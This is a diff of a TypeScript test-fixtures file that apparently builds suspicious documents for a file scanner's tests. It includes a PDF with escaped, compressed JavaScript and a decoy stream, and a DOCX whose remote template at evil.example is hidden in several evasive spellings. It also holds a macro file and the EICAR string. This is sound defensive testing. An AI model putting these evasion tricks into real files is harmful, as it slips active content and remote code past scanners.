@@ -12,10 +12,22 @@ const text = (content: string): Bytes => bytesOf(Buffer.from(content, 'latin1'))
 /** @param more objects of the file */
 export const pdf = (more = ''): Bytes => text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${more}\n%%EOF\n`)
 
-/** A script in a part that is packed, as most programs write them. */
-export const pdfWithPackedScript = (): Bytes => {
+/**
+ * A script in a part that is packed, as most programs write them.
+ *
+ * @param type how the part's type is spelled
+ */
+export const pdfWithPackedScript = (type = '/ObjStm', more = ''): Bytes => {
   const packed = deflateSync(Buffer.from('1 0 << /S /Java#53cript /J#53 (app.alert(1)) >>')).toString('latin1')
-  return pdf(`2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj`)
+  return pdf(
+    `2 0 obj\n<< /Type ${type} ${more} /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj`,
+  )
+}
+
+/** The first bytes after `stream` are harmless, and not the ones that are packed. */
+export const pdfWithPackedDecoy = (): Bytes => {
+  const decoy = deflateSync(Buffer.from('1 0 << >>')).toString('latin1')
+  return pdfWithPackedScript('/ObjStm /Filter /FlateDecode', `/Note (stream\n${decoy})`)
 }
 
 const OOXML = 'application/vnd.openxmlformats-officedocument'
@@ -40,8 +52,22 @@ const LINKS = 'word/_rels/document.xml.rels'
 
 export const docx = (): Bytes => word({ [LINKS]: relationships('hyperlink', 'https://district.example') })
 export const docxWithMacros = (): Bytes => word({ 'word/vbaProject.bin': strToU8('x') })
-export const docxWithTemplate = (): Bytes =>
-  word({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm') })
+const SETTINGS = 'word/_rels/settings.xml.rels'
+
+/** A template elsewhere, plain and in spellings that hide it. */
+export const docxWithTemplate = (): [string, Bytes][] => {
+  const plain = relationships('attachedTemplate', 'https://evil.example/t.dotm')
+  const spelled = (from: string, to: string) =>
+    word({ [SETTINGS]: strToU8(Buffer.from(plain).toString().replace(from, to)) })
+  return [
+    ['plain', word({ [SETTINGS]: plain })],
+    ['another case', word({ 'word/_rels/settings.xml.RELS': plain })],
+    ['UTF-16', word({ [SETTINGS]: bytesOf(Buffer.from(`\ufeff${Buffer.from(plain)}`, 'utf16le')) })],
+    ['an entity', spelled('"External"', '"&#69;xternal"')],
+    ['a bracket in an attribute', spelled(' Id="r1"', ' Id="r>1"')],
+    ['a link in another attribute', spelled(' Id="r1"', ` Id='Type="/hyperlink"'`)],
+  ]
+}
 
 const sheet = (bookType: 'xlsx' | 'biff8'): Bytes => {
   const book = utils.book_new()
@@ -69,6 +95,14 @@ export const photo = async (): Promise<Bytes> => {
   const place = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 47/1 0/1' }, IFD0: { Copyright: 'Paul Provider' } }
   return bytesOf(await image.jpeg().withExif(place).toBuffer())
 }
+
+/** A plain PNG image, in pixels. */
+export const image = async (width: number, height: number): Promise<Bytes> =>
+  bytesOf(
+    await sharp({ create: { width, height, channels: 3, background: 'white' } })
+      .png()
+      .toBuffer(),
+  )
 
 /** The EICAR test file, which every virus scanner finds. */
 export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
